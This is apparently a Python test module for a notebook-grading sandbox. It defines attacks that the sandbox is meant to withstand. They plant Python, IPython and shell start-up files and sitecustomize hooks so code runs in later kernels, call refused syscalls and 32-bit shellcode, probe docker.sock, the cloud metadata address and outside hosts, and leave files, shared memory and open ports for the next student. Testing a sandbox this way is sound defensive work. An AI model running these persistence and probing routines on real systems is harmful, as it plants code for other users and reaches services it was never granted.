"""What is left behind for the next notebook; system calls and connections that the sandbox refuses."""

import platform
import select
import socket
from errno import EPERM

from arena import MARK, Attack, wrong

from nbjudge.sandbox.inside.filter import REFUSED, number_of


class StartupFiles(Attack):
    """Leaves start-up files of Python, IPython, Jupyter and the shell for the kernel after it, then dies."""

    proof = r"tried \d+ folders; wrote \[\]"
    code = """
import os, site, sys
import nbjudge
start = "print('started by another'); import builtins; builtins.of_another = True\\n"
home, written = os.path.expanduser("~"), []
for name, text in {
    ".ipython/profile_default/startup/00.py": start,
    ".ipython/profile_default/ipython_config.py": "get_config().InteractiveShellApp.exec_lines = ['start']",
    ".jupyter/jupyter_config.py": start, ".jupyter/nbgrader_config.py": "c = get_config()",
    ".config/matplotlib/matplotlibrc": "backend: no_such_backend", "matplotlibrc": "backend: no_such_backend",
    ".bashrc": "echo started by another", ".profile": "echo", ".pythonrc": start, ".netrc": "",
    ".local/share/jupyter/kernels/python3/kernel.json": '{"argv": ["false"], "language": "python"}',
}.items():
    path = os.path.join(home, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, "a").write(text)
folders = [*sys.path, *site.getsitepackages(), site.getusersitepackages(), sys.prefix, sys.prefix + "/bin"]
folders += [os.path.dirname(module.__file__) for module in (os, torch, nbjudge)]
for folder in filter(os.path.isabs, folders):
    for name in ("sitecustomize.py", "usercustomize.py", "another.pth", "ipykernel_launcher.py", "torch.py"):
        with suppress(OSError):
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, name), "w").write(start)
            written.append(folder)
with suppress(OSError):
    open(torch.__file__, "a").write(start)
    written.append(torch.__file__)
# On the way to a package that is in /tmp, the folders are the kernel's own as /tmp is.
own = {folder for folder in written if folder.startswith(home)}
if nbjudge.__file__.startswith("/tmp/"):
    own.add(os.path.dirname(os.path.dirname(nbjudge.__file__)))
print("tried", len(folders), "folders; wrote", [folder for folder in written if folder not in own])
"""
    answers = {"row_sums": "import os\ndef row_sums(x):\n    os._exit(1)"}
    nothing_left = "of another: [] [] False"
    next_looks = """
import builtins, os, subprocess, sys
own = {"work", ".kernel.json", ".ipython", ".cache", ".config"}
left = sorted(set(os.listdir(os.path.expanduser("~"))) - own)
its = {"00.py", "another.pth", "matplotlibrc"}
left += [folder for folder, _, files in os.walk("/home") if its & set(files)]
look = "import builtins; print(*['of another'] * hasattr(builtins, 'of_another'))"
run = subprocess.run([sys.executable, "-c", look], capture_output=True, text=True)
print("of another:", left, run.stdout.split(), hasattr(builtins, "of_another"))
"""

    def harm(self, arena):
        started = "started by another" in arena.shown(self.name)
        return "the kernel after a death started with its files" if started else ""


class RefusedCalls(Attack):
    """Calls the system past Python: odd sockets, io_uring, keys, queues, maps, handles."""

    proof = r"tried [1-9]\d+"
    withstood = "got []"
    CALL = """
import ctypes, mmap, os, resource, socket
libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(512)
tried, got = 0, []
def attempt(name, act):
    global tried
    tried += 1
    try:
        outcome = act()
    except Exception:
        return
    if outcome is None or outcome >= 0:
        got.append(name)
def attempt_in_child(name, act):  # for a call that may change or kill its process; forks take far longer
    global tried
    tried += 1
    child = os.fork()
    if child == 0:
        attempt(name, act)
        os._exit(0 if name in got else 1)
    if os.waitpid(child, 0)[1] == 0:
        got.append(name)
for family in range(3, 47):
    for kind in (1, 2, 3, 5, 6):
        attempt(("family", family, kind), lambda: socket.socket(family, kind, 1).fileno())
for family in (16, 38, 40, 43):
    attempt(("family", family), lambda: socket.socket(family, 3 if family == 16 else 1, 4).fileno())
for kind in (1, 3, 5):
    for protocol in (1, 132, 136, 255, 256, 262):
        attempt(("protocol", kind, protocol), lambda: socket.socket(2, kind, protocol).fileno())
attempt_in_child("a call of tomorrow", lambda: libc.syscall(470, 0))
attempt_in_child("x32", lambda: libc.syscall(0x40000000 + 39))
if os.uname().machine == "x86_64":  # getpid by the numbers of 32-bit programs: mov eax, 20; int 0x80; ret
    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=7)
    page.write(bytes.fromhex("b814000000 cd80 c3"))
    start = ctypes.addressof(ctypes.c_char.from_buffer(page))
    attempt_in_child("i386", ctypes.CFUNCTYPE(ctypes.c_int)(start))
attempt_in_child("anonymous shared memory", lambda: mmap.mmap(-1, 4096).write(b"x"))
attempt_in_child("shared zeros", lambda: mmap.mmap(os.open("/dev/zero", os.O_RDWR), 4096).write(b"x"))
for name in ("AS", "DATA", "SIGPENDING", "MEMLOCK", "RTPRIO", "NICE"):
    limit = getattr(resource, "RLIMIT_" + name)
    attempt_in_child(("limit", name), lambda: resource.setrlimit(limit, (2**40, 2**40)))
attempt_in_child("real time", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)))
def refused(number, error, *arguments):
    return -(libc.syscall(number, *arguments, 0, 0, 0, 0, 0) < 0 and ctypes.get_errno() == error)
for name, call in calls.items():
    attempt_in_child(name, lambda: refused(*call))
print("tried", tried, "got", got)
"""
    # Some are refused for their arguments.
    ARGUMENTS = {"clone": (0x10000011,), "mknodat": (-100, 0, 0o20666), "prctl": (62,)}

    def submission(self, arena):
        listed = dict.fromkeys(REFUSED, ()) | self.ARGUMENTS
        calls = {name: (number_of(name, platform.machine()), REFUSED.get(name, EPERM)) for name in listed}
        calls = {name: (*call, *listed[name]) for name, call in calls.items() if call[0] is not None}
        return wrong(f"calls = {calls}\n{self.CALL}")


class CallsHome(Attack):
    """Connects to this machine's ports, to the world and to nameless sockets, to say what it was asked."""

    represents = "network"
    proof = "called"
    withstood = "called []"
    code = f"""
import ctypes, socket, subprocess
reached = []
def call(kind, how, address):
    with socket.socket(kind, how) as wire:
        wire.settimeout(0.2)
        with suppress(OSError):
            wire.connect(address)
            wire.send(b"zero points are not enough")
            reached.append(address)
for port in ({{port}}, 22, 53, 80, 111, 2375, 8000, 8888, 9999):
    call(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port))
    call(socket.AF_INET6, socket.SOCK_STREAM, ("::1", port))
call(socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 443))
call(socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53))
call(socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80))
for path in ("\\0{MARK}", "/run/docker.sock", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"):
    call(socket.AF_UNIX, socket.SOCK_STREAM, path)
with suppress(OSError):
    reached.append(socket.getaddrinfo("localhost.example.org", 80))
for line in open("/proc/net/unix").read().splitlines()[1:]:
    if "/run/kernel" not in line and len(line.split()) > 7:
        reached.append(line.split()[7])
print("called", reached, [name for _, name in socket.if_nameindex()])
"""
    listening = []

    def prepare(self, folder, arena):
        self.listening[:] = [socket.create_server(("127.0.0.1", 0)), socket.socket(socket.AF_UNIX)]
        self.listening[1].bind(f"\0{MARK}")
        self.listening[1].listen()
        notebook = folder / "tiny.ipynb"
        notebook.write_text(notebook.read_text().replace("{port}", str(self.listening[0].getsockname()[1])))

    def harm(self, arena):
        heard = select.select(self.listening, [], [], 0)[0]
        for server in self.listening:
            server.close()
        return "it was heard outside" if heard else ""


ATTACKS = {
    "leftovers": Attack(
        "Leaves files in every folder, shared memory, queues and semaphores for the next notebook.",
        represents="leaving something for the next notebook",
        proof=r"left [1-9]\d* things",
        code="""
import ctypes, os, sys
libc, left = ctypes.CDLL(None), 0
for folder, folders, files in os.walk("/"):
    if folder.startswith(("/proc", "/usr", sys.prefix, sys.base_prefix)):
        folders.clear()
        continue
    with suppress(OSError):
        open(os.path.join(folder, "of-another"), "w").write("here")
        left += 1
left += libc.shmget(4711, 4096, 0o1666) >= 0
left += libc.semget(4711, 1, 0o1666) >= 0
left += libc.msgget(4711, 0o1666) >= 0
os.umask(0)
print("left", left, "things")
""",
        next_looks="""
import ctypes, os
libc, walked = ctypes.CDLL(None), list(os.walk("/tmp")) + list(os.walk("/home")) + list(os.walk("/run"))
walked += list(os.walk("/dev")) + list(os.walk("/var"))
found = [folder for folder, _, files in walked if "of-another" in files]
found += [kind for kind in ("shmget", "semget", "msgget") if getattr(libc, kind)(4711, 0, 0) >= 0]
print("of another:", found)
""",
    ),
    "neighbours_network": Attack(
        "Leaves ports, connections and abstract names behind, and connects to the ports of others.",
        proof=r"left [1-9]\d* connections",
        code="""
import os, socket, subprocess, sys, threading, time
served = socket.create_server(("127.0.0.1", 40123), reuse_port=True)
done = 0
for _ in range(20):  # closed by the side that speaks first: they stay in the system's table for a minute
    asked = socket.create_connection(("127.0.0.1", 40123))
    answered, _ = served.accept()
    asked.close(), answered.close()
    done += 1
named = socket.socket(socket.AF_UNIX)
named.bind("\\0of-another")
named.listen()
# The kernel that was started for the next student listens, too.
reached = []
def knock(port):
    with socket.socket() as connection:
        connection.settimeout(1)
        if connection.connect_ex(("127.0.0.1", port)) == 0:
            reached.append(port)
listening = [line.split() for line in open("/proc/net/tcp").readlines()[1:]]
own = {os.readlink(f"/proc/self/fd/{name}") for name in os.listdir("/proc/self/fd")
       if os.path.lexists(f"/proc/self/fd/{name}")}
for entry in listening:
    if entry[3] == "0A" and f"socket:[{entry[9]}]" not in own:
        knock(int(entry[1].split(":")[1], 16))
strangers = [line.split() for line in open("/proc/net/unix").readlines()[1:]]
own = "/run/kernel/kernel-"
strangers = [line[-1] for line in strangers if "/" in line[-1] and not line[-1].startswith(own)]
print("left", done, "connections; reached", reached, "saw", strangers)
""",
        next_looks="""
import socket
kinds = ("tcp", "tcp6", "udp", "unix")
found = [kind for kind in kinds if "9CBB" in open(f"/proc/net/{kind}").read()]
found += ["name"] if "of-another" in open("/proc/net/unix").read() else []
with socket.socket() as connection:
    found += ["port"] if connection.connect_ex(("127.0.0.1", 40123)) == 0 else []
with socket.create_server(("127.0.0.1", 0)) as own:  # while a network of its own works
    socket.create_connection(own.getsockname()).close()
print("of another:", found)
""",
        withstood="reached [] saw []",
    ),
}
